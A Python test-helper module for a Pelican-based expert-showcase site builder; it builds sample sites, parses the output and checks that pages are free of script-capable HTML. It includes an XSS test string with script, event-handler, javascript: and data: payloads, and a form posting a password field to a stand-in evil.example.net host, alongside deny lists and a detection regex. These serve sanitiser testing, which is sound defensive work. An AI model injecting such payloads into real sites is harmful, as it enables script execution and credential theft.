"""Helpers for tests: real Pelican builds into temp folders, read back with bs4."""

from __future__ import annotations

import re
import shutil
import sys
import textwrap
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from eminence_showcase import runner

ROOT = Path(__file__).resolve().parent.parent

# The code's tests never read the project's own showcase (content/, pelicanconf.py): a
# company that replaced the example keeps a green suite. They build the bundled example,
# which the engine owns, or small sites of their own, with the example's settings.
EXAMPLE_ROOT = ROOT / "examples" / "kestrel-works"
EXAMPLE = EXAMPLE_ROOT / "content"
SETTINGS = str(EXAMPLE_ROOT / "pelicanconf.py")


# What an engine copy leaves out: the project's own showcase (at the top only: the example
# has a content/ too) and what builds and tools leave behind (anywhere).
NOT_ENGINE_TOP = ("content", "pelicanconf.py", "output", "output-*", "output.*", "cache", ".git")
# Anywhere: CI's virtual environment is .ci/venv (~900 MB a copy, were it copied).
NOT_ENGINE = shutil.ignore_patterns("__pycache__", ".pytest_cache", ".ruff_cache", "node_modules",
                                    ".venv", "venv")


def engine_files(folder: str, names: list[str]) -> set[str]:
    """shutil.copytree's ignore: what copying the engine of ROOT leaves out."""
    top = shutil.ignore_patterns(*NOT_ENGINE_TOP)(folder, names) if Path(folder) == ROOT else set()
    return top | NOT_ENGINE(folder, names)

# A fresh clone's pelicanconf.py: it shows the bundled example.
UPSTREAM_SETTINGS = """\
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "plugins"))
from eminence_model.engine_settings import *  # noqa
from eminence_model.engine_settings import EXAMPLE, settings_of
globals().update(settings_of(os.path.join(EXAMPLE, "pelicanconf.py")))
"""
# An adopter-shaped project whose content/ is a copy of the example's.
EXAMPLE_PROJECT_SETTINGS = UPSTREAM_SETTINGS + 'PATH = "content"\n'


def example_project(dest: Path) -> Path:
    """A project folder as an adopter's looks (the engine, `content/`, `pelicanconf.py`)
    whose showcase is a copy of the bundled example: what the editor's commands, the
    workflows' commands and a published build are tested in."""
    shutil.copytree(ROOT, dest, ignore=engine_files)
    shutil.copytree(EXAMPLE, dest / "content")
    (dest / "pelicanconf.py").write_text(EXAMPLE_PROJECT_SETTINGS, encoding="utf-8")
    return dest


def shared_corpus(name: str) -> Path:
    """../shared/corpora/NAME: skipped with a message where shared/ is absent, a failure
    in CI (.ci/run sets EMINENCE_REQUIRE_CORPUS: this team's CI always has shared/)."""
    import os

    import pytest

    folder = ROOT.parent / "shared" / "corpora" / name
    if not folder.is_dir():
        message = (f"the {name} corpus is missing: expected {folder} (the team's shared/ folder "
                   "beside the project)")
        if os.environ.get("EMINENCE_REQUIRE_CORPUS"):
            pytest.fail(message)
        pytest.skip(message)
    return folder


def settings_for(content: Path, output: Path, **overrides) -> dict:
    overrides.setdefault("CACHE_PATH", str(output.parent / "cache"))
    return runner.load_settings(SETTINGS, PATH=str(content), OUTPUT_PATH=str(output), **overrides)


def build_as_published(project: Path, site: str) -> Path:
    """`project` built with its publishconf.py into its output/, at SITEURL `site`, as
    CI publishes it (publishconf reads SITEURL from the environment)."""
    import os

    out = project / "output"
    os.environ["SITEURL"] = site
    try:
        settings = runner.load_settings(str(project / "publishconf.py"), OUTPUT_PATH=str(out),
                                        CACHE_PATH=str(project / "cache"))
    finally:
        del os.environ["SITEURL"]
    runner.build(settings)
    return out


def build(content: Path, output: Path, **overrides):
    return runner.build(settings_for(content, output, **overrides))


def check(content: Path, **overrides) -> runner.Showcase:
    return runner.check(settings_for(content, content.parent / "unused-output", **overrides))


def page(output: Path, rel: str) -> BeautifulSoup:
    path = output / rel
    if path.is_dir() or rel.endswith("/"):
        path = path / "index.html"
    return BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")


def site_pages(output: Path):
    """(path, parsed page) for every HTML page of a built site, the search index aside."""
    for path in sorted(output.rglob("*.html")):
        rel = path.relative_to(output)
        if not rel.parts[0].startswith("pagefind"):
            yield str(rel), page(output, str(rel))


def write(base: Path, rel: str, text: str) -> Path:
    path = base / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
    return path


SMALL_SITE = {
    "topics/ai.md": """
        Title: Applied AI
        Summary: Machine learning in production.
        Keywords: machine learning, forecasting
        Order: 1

        Our AI work.
        """,
    "topics/security.md": """
        Title: Security
        Summary: Defending infrastructure.

        Our security work.
        """,
    "experts/ada.md": """
        Title: Ada Example
        Role: Principal Engineer
        Topics: ai, security
        Links: https://ada.example.com/
        Trusted: yes

        Ada writes about models.
        """,
    "experts/bob.md": """
        Title: Bob Example
        Topics: security
        Status: alumni

        Bob wrote about security.
        """,
    "experts/cy.md": """
        Title: Cy Example
        Role: Researcher
        Topics: ai, security

        Cy has a blog the pull tests feed from.
        """,
    "endorsements/good.md": """
        Title: Very good work
        Endorser: Carol Customer
        Endorser-Role: CTO, Customer Ltd
        Source: https://customer.example.org/post
        Date: 2026-01-05
        Topics: ai
        Experts: ada
        Consent: public
        Status: published

        They did very good work.
        """,
    "posts/ada/first.md": """
        Title: First post
        Date: 2026-01-01
        Expert: ada
        Topics: ai
        Original: https://ada.example.com/first/

        Hello.
        """,
    "posts/ada/second.md": """
        Title: Second post
        Date: 2026-02-01
        Expert: ada
        Topics: ai, security

        Again.
        """,
    "posts/bob/old.md": """
        Title: Old post
        Date: 2020-02-01
        Expert: bob
        Topics: security

        Old.
        """,
}


def all_html(output: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8") for p in sorted(output.rglob("*.html")))


class PullSite:
    """A small site whose experts pull from a FeedServer: pull, edit, build, inspect."""

    def __init__(self, content: Path, tmp: Path):
        self.content = content
        self.out = tmp / "out"
        self.cache = tmp / "cache"

    def settings(self, **overrides) -> dict:
        overrides.setdefault("CACHE_PATH", str(self.cache))
        # Tests about the new-expert limit set it themselves.
        overrides.setdefault("EMINENCE_PULL_NEW_EXPERT_LIMIT", 100)
        return runner.load_settings(SETTINGS, PATH=str(self.content), OUTPUT_PATH=str(self.out),
                                    **overrides)

    def set_expert(self, slug: str, feeds=(), trusted: bool | None = None, status: str | None = None):
        path = self.content / "experts" / f"{slug}.md"
        head, body = path.read_text().split("\n\n", 1)
        lines = [ln for ln in head.splitlines()
                 if not ln.startswith(("Feeds:", "Trusted:", "Status:"))]
        if feeds:
            lines.append("Feeds: " + ", ".join(feeds))
        if trusted is not None:
            lines.append(f"Trusted: {'yes' if trusted else 'no'}")
        if status:
            lines.append(f"Status: {status}")
        path.write_text("\n".join(lines) + "\n\n" + body)

    def set_watch(self, topic: str, urls: list[str]) -> None:
        path = self.content / "topics" / f"{topic}.md"
        head, body = path.read_text().split("\n\n", 1)
        lines = [ln for ln in head.splitlines() if not ln.startswith("Watch:")]
        path.write_text("\n".join([*lines, "Watch: " + ", ".join(urls)]) + "\n\n" + body)

    def pull(self, expert=None, dry_run=False, offline=False, force=False, **overrides):
        from eminence_pull import run_pull

        return run_pull(self.settings(**overrides), expert=expert, dry_run=dry_run, offline=offline,
                        force=force)

    def build(self, **overrides) -> Path:
        runner.build(self.settings(**overrides))
        return self.out

    def posts(self, expert: str = "cy") -> dict[str, str]:
        folder = self.content / "posts" / expert
        return {p.name: p.read_text(encoding="utf-8") for p in sorted(folder.glob("*.md"))} \
            if folder.exists() else {}

    def meta(self, expert: str, name: str) -> dict[str, str]:
        head = self.posts(expert)[name].split("\n\n", 1)[0]
        return dict(line.split(": ", 1) for line in head.splitlines())

    def ledger(self) -> dict:
        import json

        path = self.content / "_pull" / "ledger.json"
        return json.loads(path.read_text())["entries"] if path.exists() else {}

    def health(self) -> dict:
        """What the pull knows of each feed: health.json merged with its observations."""
        from eminence_pull.state import Health

        return dict(Health.load(str(self.content / "_pull"), str(self.cache / "pull")))


FORBIDDEN_TAGS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
                  "input", "button", "textarea", "select", "base", "svg", "math", "portal"}
THEME_SCRIPTS = ("/theme/js/search.js",)  # the search page's; it imports pagefind.js itself
BAD_URL = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")


def script_capable(html: str) -> list[str]:
    """Every script-capable construct in a page: forbidden elements, event-handler and
    style attributes, script/data URLs, meta refresh, CSS expressions."""
    import re

    found = []
    soup = BeautifulSoup(html, "html.parser")
    # The theme's own search forms (the header's box, the search page's box and filters):
    # plain GET forms to the search page.
    for form in soup.select("form.site-search, form.search-form"):
        if form.get("action", "").endswith("/search/") and form.get("method") == "get":
            form.decompose()
    for more in soup.select("button#search-more"):  # the search page's "More results"
        if set(more.attrs) <= {"id", "class", "type", "hidden"} and more.get("type") == "button":
            more.decompose()
    for tag in soup.find_all(True):
        src = tag.get("src") or ""
        if tag.name == "script" and src.endswith(THEME_SCRIPTS) and not tag.string:
            continue  # the search page's own, served by the site (checked in test_site_pages)
        if tag.name == "script" and tag.get("type") == "application/ld+json":
            import json

            try:  # data, not code: it must be JSON and nothing else
                json.loads(tag.string or "")
            except ValueError:
                found.append("<script type=application/ld+json> that is not JSON")
            continue
        theme_chart = tag.name == "svg" and {"chart", "sparkline"} & set(tag.get("class") or [])
        if tag.name in FORBIDDEN_TAGS and not theme_chart:  # the theme's own charts; their
            found.append(f"<{tag.name}>")                    # contents are still checked below
        if tag.name == "meta" and (tag.get("http-equiv") or "").lower() == "refresh":
            found.append("meta refresh")
        if tag.name == "link" and tag.get("rel") not in (["stylesheet"], ["icon"], ["canonical"],
                                                         ["alternate"]):
            found.append(f"<link rel={tag.get('rel')}>")
        for attr, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if attr.lower().startswith("on"):
                found.append(f"{tag.name} {attr}=")
            if attr.lower() == "style":
                found.append(f"{tag.name} style=")
            squeezed = re.sub(r"[\s\x00-\x1f]+", "", value).lower()
            if attr.lower() in ("href", "src", "action", "formaction", "xlink:href", "srcset",
                                "poster", "background", "lowsrc", "dynsrc") and \
                    squeezed.startswith(BAD_URL):
                found.append(f"{tag.name} {attr}={value[:40]}")
            if "expression(" in squeezed:
                found.append(f"{tag.name} {attr} expression()")
    return found


def invoke(project: Path, *args):
    """Run an invoke task in a project folder, as an editor would."""
    import subprocess

    return subprocess.run([sys.executable, "-m", "invoke", *args], cwd=project, capture_output=True,
                          text=True, timeout=300)


XSS = """
<p>Intro <b>bold</b> text.</p>
<script>alert('script')</script>
<style>body { background: url(javascript:alert(1)) }</style>
<p onclick="alert('click')" style="width: expression(alert(1))">Handlers</p>
<a href="javascript:alert('href')">js link</a>
<a href="JaVaScRiPt:alert(1)">mixed case</a>
<a href="vbscript:msgbox(1)">vb</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data img">
<img src="x" onerror="alert('img')" alt="onerror img">
<svg onload="alert(1)"><circle r="1"/></svg>
<iframe src="https://evil.example.net/frame"></iframe>
<iframe src="https://www.youtube.com/embed/abc123"></iframe>
<object data="https://evil.example.net/x.swf"></object>
<embed src="https://evil.example.net/x.swf">
<form action="https://evil.example.net/steal"><input name="pw"><button>Go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example.net/">
<base href="https://evil.example.net/">
<p>&lt;script&gt;alert('escaped text')&lt;/script&gt;</p>
<pre>```
&lt;script&gt;alert('fence')&lt;/script&gt;
```</pre>
<a href="https://ok.example.com/x)<img src=x onerror=alert(1)>">paren breakout</a>
"""

SCRIPT_CAPABLE = re.compile(r"<script|<style|<iframe|<object|<embed|<form|<svg|<meta|<base\b|"
                            r"javascript:|vbscript:|data:text|expression\(|\son\w+\s*=", re.I)


def assert_inert(html: str) -> None:
    """No script-capable construct in the HTML fragment."""
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in {"script", "style", "iframe", "object", "embed", "form", "svg", "meta",
                                "base", "input", "button", "applet", "frame", "link"}, tag
        for attr, value in tag.attrs.items():
            assert not attr.lower().startswith("on"), tag
            assert attr.lower() != "style", tag
            if attr in ("href", "src"):
                assert re.match(r"^(https?:|mailto:|/|\.|#)", value) or value == "", tag


# The browser tests' Chromium: Debian's package, driven by Playwright.
CHROMIUM_FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update",
                  "--disable-sync"]


def chromium_path() -> str:
    for name in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable"):
        path = shutil.which(name)
        if path:
            return path
    pytest.fail("Debian's chromium is needed for the browser tests: run `invoke test` (which "
                "installs it when run as root) or `apt-get install chromium`.")


def served(folder: Path):
    """A context manager: `folder` served on 127.0.0.1 (a built site, for Chromium); its base URL."""
    import contextlib
    import threading
    from functools import partial
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *args):
            pass

    @contextlib.contextmanager
    def serving():
        server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder)))
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}/"
        finally:
            server.shutdown()
            server.server_close()
    return serving()
